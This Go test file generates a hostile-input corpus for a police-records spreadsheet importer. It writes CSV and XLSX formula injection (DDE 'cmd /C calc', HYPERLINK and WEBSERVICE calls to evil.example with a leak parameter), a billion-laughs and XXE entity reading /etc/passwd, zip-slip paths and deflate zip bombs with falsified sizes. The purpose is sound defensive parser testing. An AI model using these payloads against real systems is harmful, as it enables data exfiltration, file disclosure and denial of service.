package faulttest

import (
	"archive/zip"
	"bufio"
	"bytes"
	"compress/flate"
	"fmt"
	"hash/crc32"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// This file makes the hostile corpus: small crafted files committed in ../testdata/hostile
// (rewritten from here with CANVAS_UPDATE_HOSTILE=1, checked against here otherwise), and big
// files generated into a test's temporary folder, never committed.

// corpusDir is the committed corpus, relative to this package.
const corpusDir = "../testdata/hostile"

// corpusFile is one committed hostile file and the function that writes it.
type corpusFile struct {
	Name  string
	Write func(t testing.TB, path string)
}

// validPoliceRow returns a clean police row with record number n.
func validPoliceRow(n int) []string {
	return []string{fmt.Sprintf("F%07d", n), fmt.Sprintf("PV %d/2023", n), "2023-01-05", "03/01/2023", "BRU", "5339",
		"42A1", "VICTIM", fmt.Sprintf("P%07d", n), "F", "1990", "ROU", "SEX", "2024-01-01", "N"}
}

// csvBytes renders rows as ;-separated lines without quoting (the hostile bytes go in as is).
func csvBytes(rows ...[]string) []byte {
	var b bytes.Buffer
	for _, r := range rows {
		b.WriteString(strings.Join(r, ";"))
		b.WriteString("\n")
	}
	return b.Bytes()
}

func writeBytes(t testing.TB, path string, b []byte) {
	t.Helper()
	if err := os.WriteFile(path, b, 0o644); err != nil {
		t.Fatal(err)
	}
}

// corpus lists the committed hostile files.
func corpus() []corpusFile {
	return []corpusFile{
		{"police_nul_start.csv", func(t testing.TB, p string) {
			writeBytes(t, p, append([]byte("\x00\x00\x00\x00"), csvBytes(policeHeader(), validPoliceRow(1))...))
		}},
		{"police_nul_fields.csv", func(t testing.TB, p string) {
			bad := validPoliceRow(3)
			bad[8] = "P\x00\x00003"
			bad[4] = "BRU\x00"
			writeBytes(t, p, csvBytes(policeHeader(), validPoliceRow(1), validPoliceRow(2), bad))
		}},
		{"police_invalid_utf8.csv", func(t testing.TB, p string) {
			// Every field of every data row carries bytes that are not UTF-8.
			rows := [][]string{policeHeader()}
			for i := 1; i <= 20; i++ {
				r := validPoliceRow(i)
				for j := range r {
					r[j] += []string{"\xff", "\xc3\x28", "\xe9", "\xa0\x80", "\xf8\x88\x80\x80\x80"}[(i+j)%5]
				}
				rows = append(rows, r)
			}
			writeBytes(t, p, csvBytes(rows...))
		}},
		{"police_invalid_utf8_header.csv", func(t testing.TB, p string) {
			h := policeHeader()
			for j := range h {
				h[j] = "\xff\xfe" + h[j] + "\xc0"
			}
			writeBytes(t, p, csvBytes(h, validPoliceRow(1)))
		}},
		{"police_formulas.csv", func(t testing.TB, p string) {
			// Formulas in free-text fields (kept as text) and in coded fields (quarantined).
			f := [][]string{policeHeader()}
			r := validPoliceRow(1)
			r[8] = `"=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")"`
			f = append(f, r)
			r = validPoliceRow(2)
			r[1] = `+cmd|' /C calc'!A0`
			r[5] = `@SUM(1+1)*cmd|' /C calc'!A0`
			f = append(f, r)
			r = validPoliceRow(3)
			r[0] = `-2+3+cmd|' /C calc'!A0`
			r[8] = "\t=1+1"
			f = append(f, r)
			r = validPoliceRow(4)
			r[4] = `=HYPERLINK("http://evil.example","BRU")` // coded field: quarantine
			f = append(f, r)
			r = validPoliceRow(5)
			r[6] = `@SUM(42A1)` // coded field: quarantine
			f = append(f, r)
			writeBytes(t, p, csvBytes(f...))
		}},
		{"police_formulas.xlsx", writeFormulaXLSX},
		{"police_deep_nesting.xlsx", func(t testing.TB, p string) {
			const depth = 1_000_000
			writeZip(t, p, xlsxParts("Extract", func(w io.Writer) error {
				io.WriteString(w, xlsxSheetHead)
				sheetRows(w, 1, [][]string{policeHeader(), validPoliceRow(1)}, nil)
				io.WriteString(w, `<row r="3"><c r="A3" t="inlineStr"><is>`)
				io.WriteString(w, strings.Repeat("<x>", depth))
				io.WriteString(w, strings.Repeat("</x>", depth))
				io.WriteString(w, `<t>F1</t></is></c></row>`)
				_, err := io.WriteString(w, xlsxSheetTail)
				return err
			}, nil))
		}},
		{"police_deep_nesting_workbook.xlsx", func(t testing.TB, p string) {
			const depth = 1_000_000
			parts := xlsxParts("Extract", func(w io.Writer) error {
				io.WriteString(w, xlsxSheetHead)
				sheetRows(w, 1, [][]string{policeHeader(), validPoliceRow(1)}, nil)
				_, err := io.WriteString(w, xlsxSheetTail)
				return err
			}, nil)
			parts[2] = xlsxPart{Name: "xl/workbook.xml", Body: func(w io.Writer) error {
				io.WriteString(w, strings.TrimSuffix(xlsxWorkbook("Extract"), "</workbook>"))
				io.WriteString(w, strings.Repeat("<extLst>", depth))
				io.WriteString(w, strings.Repeat("</extLst>", depth))
				_, err := io.WriteString(w, "</workbook>")
				return err
			}}
			writeZip(t, p, parts)
		}},
		{"police_long_attribute.xlsx", func(t testing.TB, p string) {
			writeZip(t, p, xlsxParts("Extract", func(w io.Writer) error {
				io.WriteString(w, xlsxSheetHead)
				sheetRows(w, 1, [][]string{policeHeader(), validPoliceRow(1)}, nil)
				io.WriteString(w, `<row r="3" spans="`)
				chunk := strings.Repeat("1", 1<<20)
				for i := 0; i < 48; i++ { // a 48 MiB attribute
					io.WriteString(w, chunk)
				}
				io.WriteString(w, `"><c r="A3" t="inlineStr"><is><t>F2</t></is></c></row>`)
				_, err := io.WriteString(w, xlsxSheetTail)
				return err
			}, nil))
		}},
		{"police_billion_laughs.xlsx", func(t testing.TB, p string) {
			var ents strings.Builder
			ents.WriteString(`<!DOCTYPE worksheet [<!ENTITY lol0 "lollollollollollollollollollol">`)
			for i := 1; i <= 9; i++ {
				ents.WriteString(fmt.Sprintf(`<!ENTITY lol%d "%s">`, i, strings.Repeat(fmt.Sprintf("&lol%d;", i-1), 10)))
			}
			ents.WriteString(`<!ENTITY xxe SYSTEM "file:///etc/passwd">]>`)
			head := strings.Replace(xlsxSheetHead, "<worksheet", ents.String()+"<worksheet", 1)
			sst := strings.Replace(xlsxEmptySST, "<sst", ents.String()+"<sst", 1)
			sst = strings.Replace(sst, `count="0" uniqueCount="0"></sst>`, `count="1" uniqueCount="1"><si><t>&lol9;</t></si></sst>`, 1)
			writeZip(t, p, xlsxParts("Extract", func(w io.Writer) error {
				io.WriteString(w, head)
				sheetRows(w, 1, [][]string{policeHeader(), validPoliceRow(1)}, nil)
				io.WriteString(w, `<row r="3"><c r="A3" t="inlineStr"><is><t>&lol9;</t></is></c><c r="B3" t="inlineStr"><is><t>&xxe;</t></is></c><c r="I3" t="s"><v>0</v></c></row>`)
				_, err := io.WriteString(w, xlsxSheetTail)
				return err
			}, func(w io.Writer) error { _, err := io.WriteString(w, sst); return err }))
		}},
		{"police_zip_slip.xlsx", func(t testing.TB, p string) {
			parts := xlsxParts("Extract", func(w io.Writer) error {
				io.WriteString(w, xlsxSheetHead)
				sheetRows(w, 1, [][]string{policeHeader(), validPoliceRow(1)}, nil)
				_, err := io.WriteString(w, xlsxSheetTail)
				return err
			}, nil)
			parts = append(parts,
				constPart("../../../../../../../../tmp/faulttest_zipslip_relative", "escaped"),
				constPart("/tmp/faulttest_zipslip_absolute", "escaped"),
				constPart(`..\..\..\..\tmp\faulttest_zipslip_backslash`, "escaped"))
			writeZip(t, p, parts)
		}},
		{"police_sst_bad_index.xlsx", func(t testing.TB, p string) {
			writeZip(t, p, xlsxParts("Extract", func(w io.Writer) error {
				io.WriteString(w, xlsxSheetHead)
				sheetRows(w, 1, [][]string{policeHeader(), validPoliceRow(1)}, nil)
				for i, idx := range []string{"99999999", "-1", "abc", "18446744073709551616"} {
					n := 3 + i
					r := validPoliceRow(n)
					fmt.Fprintf(w, `<row r="%d">`, n)
					for c, v := range r {
						if c == 4 { // district from a shared string that does not exist
							fmt.Fprintf(w, `<c r="%s%d" t="s"><v>%s</v></c>`, colName(c), n, idx)
							continue
						}
						fmt.Fprintf(w, `<c r="%s%d" t="inlineStr"><is><t>%s</t></is></c>`, colName(c), n, v)
					}
					io.WriteString(w, `</row>`)
				}
				_, err := io.WriteString(w, xlsxSheetTail)
				return err
			}, nil))
		}},
		{"police_zip_size_lie.xlsx", writeSizeLieXLSX},
		{"police_far_cell.xlsx", func(t testing.TB, p string) {
			// A cell in the last column and row of the sheet grid, and a dimension claiming it all.
			writeZip(t, p, xlsxParts("Extract", func(w io.Writer) error {
				io.WriteString(w, strings.Replace(xlsxSheetHead, "<sheetData>", `<dimension ref="A1:XFD1048576"/><sheetData>`, 1))
				sheetRows(w, 1, [][]string{policeHeader(), validPoliceRow(1)}, nil)
				io.WriteString(w, `<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>far</t></is></c></row>`)
				_, err := io.WriteString(w, xlsxSheetTail)
				return err
			}, nil))
		}},
	}
}

// writeFormulaXLSX writes a police workbook whose cells hold formulas: with a cached value
// (read by that value, per extracts.md), without one, and DDE-style command formulas.
func writeFormulaXLSX(t testing.TB, p string) {
	writeZip(t, p, xlsxParts("Extract", func(w io.Writer) error {
		io.WriteString(w, xlsxSheetHead)
		sheetRows(w, 1, [][]string{policeHeader()}, nil)
		cell := func(ref, f, v string) string {
			if v == "" {
				return fmt.Sprintf(`<c r="%s" t="str"><f>%s</f></c>`, ref, xmlEscape(f))
			}
			return fmt.Sprintf(`<c r="%s" t="str"><f>%s</f><v>%s</v></c>`, ref, xmlEscape(f), xmlEscape(v))
		}
		rows := []map[int][2]string{
			{4: {`HYPERLINK("http://evil.example/?leak="&amp;A2,"BRU")`, "BRU"}},               // cached value: loaded as BRU
			{8: {`cmd|' /C calc'!A0`, "P0000003"}},                                             // DDE with a cached value: loaded
			{4: {`WEBSERVICE("http://evil.example/")`, ""}},                                    // no cached value, required: quarantine
			{8: {`HYPERLINK("http://evil.example","x")`, `=HYPERLINK("http://evil.example")`}}, // cached value is itself a formula text
		}
		for i, fs := range rows {
			n := 2 + i
			r := validPoliceRow(n)
			fmt.Fprintf(w, `<row r="%d">`, n)
			for c, v := range r {
				ref := fmt.Sprintf("%s%d", colName(c), n)
				if f, ok := fs[c]; ok {
					io.WriteString(w, cell(ref, f[0], f[1]))
					continue
				}
				fmt.Fprintf(w, `<c r="%s" t="inlineStr"><is><t>%s</t></is></c>`, ref, xmlEscape(v))
			}
			io.WriteString(w, `</row>`)
		}
		_, err := io.WriteString(w, xlsxSheetTail)
		return err
	}, nil))
}

// TestHostileCorpusUpToDate checks that the committed corpus is what the generator writes, and
// rewrites it with CANVAS_UPDATE_HOSTILE=1.
func TestHostileCorpusUpToDate(t *testing.T) {
	update := os.Getenv("CANVAS_UPDATE_HOSTILE") == "1"
	tmp := t.TempDir()
	for _, c := range corpus() {
		if !update && strings.HasSuffix(c.Name, ".xlsx") {
			// Zip archives are checked for presence only (regenerating the big ones is slow).
			if _, err := os.Stat(filepath.Join(corpusDir, c.Name)); err != nil {
				t.Errorf("%v: run with CANVAS_UPDATE_HOSTILE=1 to write the corpus", err)
			}
			continue
		}
		gen := filepath.Join(tmp, c.Name)
		c.Write(t, gen)
		want, err := os.ReadFile(gen)
		if err != nil {
			t.Fatal(err)
		}
		committed := filepath.Join(corpusDir, c.Name)
		if update {
			writeBytes(t, committed, want)
			continue
		}
		got, err := os.ReadFile(committed)
		if err != nil {
			t.Errorf("%v: run with CANVAS_UPDATE_HOSTILE=1 to write the corpus", err)
			continue
		}
		if !bytes.Equal(got, want) {
			t.Errorf("%s differs from its generator: run with CANVAS_UPDATE_HOSTILE=1", committed)
		}
	}
}

// writeBigLineCSV writes a police CSV whose one data row has a person_ref of n bytes: a single
// line of n bytes, streamed to disk.
func writeBigLineCSV(t testing.TB, path string, n int64) {
	t.Helper()
	f, err := os.Create(path)
	if err != nil {
		t.Fatal(err)
	}
	w := bufio.NewWriterSize(f, 4<<20)
	w.Write(csvBytes(policeHeader(), validPoliceRow(1)))
	r := validPoliceRow(2)
	w.WriteString(strings.Join(r[:8], ";") + ";")
	chunk := bytes.Repeat([]byte("A"), 1<<20)
	for left := n; left > 0; left -= int64(len(chunk)) {
		w.Write(chunk[:min(int64(len(chunk)), left)])
	}
	w.WriteString(";" + strings.Join(r[9:], ";") + "\n")
	w.Write(csvBytes(validPoliceRow(3)))
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	if err := f.Close(); err != nil {
		t.Fatal(err)
	}
}

// writeRepeat writes head, then chunk until n bytes, then tail.
func writeRepeat(t testing.TB, path string, head, chunk, tail []byte, n int64) {
	t.Helper()
	f, err := os.Create(path)
	if err != nil {
		t.Fatal(err)
	}
	w := bufio.NewWriterSize(f, 4<<20)
	w.Write(head)
	for left := n; left > 0; left -= int64(len(chunk)) {
		w.Write(chunk[:min(int64(len(chunk)), left)])
	}
	w.Write(tail)
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	if err := f.Close(); err != nil {
		t.Fatal(err)
	}
}

// bombStream is a deflate stream of head, n copies of chunk, and tail, built without
// compressing n chunks: once the window holds the chunk, each further chunk compresses to the
// same bytes, which are repeated.
type bombStream struct {
	prefix, middle, suffix []byte
	n                      int64 // copies of middle
	size                   int64 // uncompressed size
	crc                    uint32
}

func (b bombStream) compressedSize() int64 {
	return int64(len(b.prefix)) + b.n*int64(len(b.middle)) + int64(len(b.suffix))
}

func (b bombStream) writeTo(w io.Writer) error {
	if _, err := w.Write(b.prefix); err != nil {
		return err
	}
	for i := int64(0); i < b.n; i++ {
		if _, err := w.Write(b.middle); err != nil {
			return err
		}
	}
	_, err := w.Write(b.suffix)
	return err
}

// newBombStream builds the stream for about size uncompressed bytes.
func newBombStream(t testing.TB, head, chunk, tail []byte, size int64) bombStream {
	t.Helper()
	var buf bytes.Buffer
	fw, err := flate.NewWriter(&buf, flate.BestCompression)
	if err != nil {
		t.Fatal(err)
	}
	flush := func(b []byte) []byte {
		fw.Write(b)
		fw.Flush()
		out := bytes.Clone(buf.Bytes())
		buf.Reset()
		return out
	}
	prefix := flush(append(bytes.Clone(head), chunk...))
	var m []byte
	for i := 0; ; i++ {
		a := flush(chunk)
		b := flush(chunk)
		prefix = append(prefix, a...)
		if bytes.Equal(a, b) {
			m = b
			break
		}
		prefix = append(prefix, b...)
		if i > 4 {
			t.Fatal("deflate output of a repeated chunk does not settle")
		}
	}
	fw.Write(tail)
	fw.Close()
	suffix := bytes.Clone(buf.Bytes())
	// Chunks already in the prefix: count them from its uncompressed length.
	inflated, _ := io.Copy(io.Discard, flate.NewReader(bytes.NewReader(prefix)))
	inPrefix := (inflated - int64(len(head))) / int64(len(chunk))
	n := (size-int64(len(head))-int64(len(tail)))/int64(len(chunk)) - inPrefix
	if n < 1 {
		n = 1
	}
	bs := bombStream{prefix: prefix, middle: m, suffix: suffix, n: n}
	bs.size = int64(len(head)) + (inPrefix+n)*int64(len(chunk)) + int64(len(tail))
	crc := crc32.ChecksumIEEE(head)
	for i := int64(0); i < inPrefix+n; i++ {
		crc = crc32.Update(crc, crc32.IEEETable, chunk)
	}
	bs.crc = crc32.Update(crc, crc32.IEEETable, tail)
	return bs
}

// verifyBomb inflates a small instance of the construction and compares it with the plain
// data: the repeated blocks must be a valid continuation of the stream.
func verifyBomb(t testing.TB, head, chunk, tail []byte) {
	t.Helper()
	bs := newBombStream(t, head, chunk, tail, int64(len(head)+len(tail)+12*len(chunk)))
	var c bytes.Buffer
	bs.writeTo(&c)
	got, err := io.ReadAll(flate.NewReader(&c))
	if err != nil {
		t.Fatalf("bomb construction: %v", err)
	}
	want := append(append(bytes.Clone(head), bytes.Repeat(chunk, int(bs.size-int64(len(head)+len(tail)))/len(chunk))...), tail...)
	if !bytes.Equal(got, want) || crc32.ChecksumIEEE(got) != bs.crc || int64(len(got)) != bs.size {
		t.Fatalf("bomb construction: inflated %d bytes, want %d", len(got), len(want))
	}
}

// writeZipBomb writes a police workbook whose sheet XML inflates to about size bytes of
// whitespace. declared is the uncompressed size written in the zip headers: the true size, or a
// lie (a small number) to get past a check of the declared sizes.
func writeZipBomb(t testing.TB, path string, size int64, lie bool) bombStream {
	t.Helper()
	head := []byte(xlsxSheetHead)
	var hb bytes.Buffer
	sheetRows(&hb, 1, [][]string{policeHeader(), validPoliceRow(1)}, nil)
	head = append(head, hb.Bytes()...)
	chunk := bytes.Repeat([]byte(" "), 1<<20)
	tail := []byte(xlsxSheetTail)
	verifyBomb(t, head, chunk[:64<<10], tail)
	bs := newBombStream(t, head, chunk, tail, size)
	f, err := os.Create(path)
	if err != nil {
		t.Fatal(err)
	}
	zw := zip.NewWriter(f)
	for _, p := range xlsxParts("Extract", func(io.Writer) error { return nil }, nil) {
		if p.Name == "xl/worksheets/sheet1.xml" {
			continue
		}
		w, err := zw.Create(p.Name)
		if err != nil {
			t.Fatal(err)
		}
		p.Body(w)
	}
	declared := uint64(bs.size)
	if lie {
		declared = 4096
	}
	w, err := zw.CreateRaw(&zip.FileHeader{Name: "xl/worksheets/sheet1.xml", Method: zip.Deflate, CRC32: bs.crc,
		CompressedSize64: uint64(bs.compressedSize()), UncompressedSize64: declared, Modified: time.Date(2025, 1, 1, 0, 0, 0, 0, time.UTC)})
	if err != nil {
		t.Fatal(err)
	}
	bw := bufio.NewWriterSize(w, 1<<20)
	if err := bs.writeTo(bw); err != nil {
		t.Fatal(err)
	}
	bw.Flush()
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	if err := f.Close(); err != nil {
		t.Fatal(err)
	}
	return bs
}

// writeHugeSST writes a police workbook with n shared strings, its data rows pointing into them.
func writeHugeSST(t testing.TB, path string, n int) {
	t.Helper()
	sst := func(w io.Writer) error {
		bw := bufio.NewWriterSize(w, 1<<20)
		fmt.Fprintf(bw, `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="%d" uniqueCount="%d">`, n, n)
		for i := 0; i < n; i++ {
			fmt.Fprintf(bw, `<si><t>shared string number %010d of a huge table</t></si>`, i)
		}
		bw.WriteString(`</sst>`)
		return bw.Flush()
	}
	sheet := func(w io.Writer) error {
		io.WriteString(w, xlsxSheetHead)
		sheetRows(w, 1, [][]string{policeHeader()}, nil)
		for i := 0; i < 1000; i++ {
			row := 2 + i
			r := validPoliceRow(row)
			fmt.Fprintf(w, `<row r="%d">`, row)
			for c, v := range r {
				if c == 8 { // person_ref from the shared-string table
					fmt.Fprintf(w, `<c r="%s%d" t="s"><v>%d</v></c>`, colName(c), row, (i*7919)%n)
					continue
				}
				fmt.Fprintf(w, `<c r="%s%d" t="inlineStr"><is><t>%s</t></is></c>`, colName(c), row, v)
			}
			io.WriteString(w, `</row>`)
		}
		_, err := io.WriteString(w, xlsxSheetTail)
		return err
	}
	writeZip(t, path, xlsxParts("Extract", sheet, sst))
}

// writeSizeLieXLSX writes a police workbook of 100 data rows whose sheet entry declares an
// uncompressed size that ends after the tenth row: a reader that trusts the header and ignores
// the read error sees 10 rows, and 90 are lost without a word.
func writeSizeLieXLSX(t testing.TB, p string) {
	var sheet bytes.Buffer
	sheet.WriteString(xlsxSheetHead)
	rows := [][]string{policeHeader()}
	for i := 1; i <= 100; i++ {
		rows = append(rows, validPoliceRow(i))
	}
	sheetRows(&sheet, 1, rows[:11], nil)
	cut := sheet.Len()
	sheetRows(&sheet, 12, rows[11:], nil)
	sheet.WriteString(xlsxSheetTail)
	var comp bytes.Buffer
	fw, _ := flate.NewWriter(&comp, flate.DefaultCompression)
	fw.Write(sheet.Bytes())
	fw.Close()
	f, err := os.Create(p)
	if err != nil {
		t.Fatal(err)
	}
	zw := zip.NewWriter(f)
	for _, part := range xlsxParts("Extract", func(io.Writer) error { return nil }, nil) {
		if part.Name == "xl/worksheets/sheet1.xml" {
			continue
		}
		w, _ := zw.Create(part.Name)
		part.Body(w)
	}
	w, err := zw.CreateRaw(&zip.FileHeader{Name: "xl/worksheets/sheet1.xml", Method: zip.Deflate,
		CRC32: crc32.ChecksumIEEE(sheet.Bytes()[:cut]), CompressedSize64: uint64(comp.Len()), UncompressedSize64: uint64(cut)})
	if err != nil {
		t.Fatal(err)
	}
	w.Write(comp.Bytes())
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	f.Close()
}
